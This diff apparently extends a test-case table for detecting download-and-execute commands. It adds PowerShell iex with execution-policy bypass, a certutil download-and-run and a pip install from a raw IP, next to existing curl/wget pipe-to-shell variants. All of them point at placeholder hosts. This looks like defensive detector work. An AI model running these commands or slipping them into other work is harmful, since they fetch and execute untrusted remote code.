@@ -55,6 +55,9 @@ DOWNLOAD_AND_RUN = {
     "full-path-and-prefixes": "/usr/bin/curl -s https://setup.invalid/p | nohup env X=1 /bin/bash",
     "ansi-c-quoting": "$'\\x63\\x75\\x72\\x6c' -s https://setup.invalid/p | sh",
     "wget-to-python": "wget -O- https://setup.invalid/p.py | python3",
+    "powershell-flags-then-iex": 'powershell -ep bypass -w hidden -c "iex(iwr https://setup.invalid/a)"',
+    "certutil-then-run": "certutil -urlcache -split -f http://203.0.113.3/a.exe a.exe && a.exe",
+    "pip-from-an-ip": "pip install git+http://203.0.113.3/pkg.git",
 }
 
 
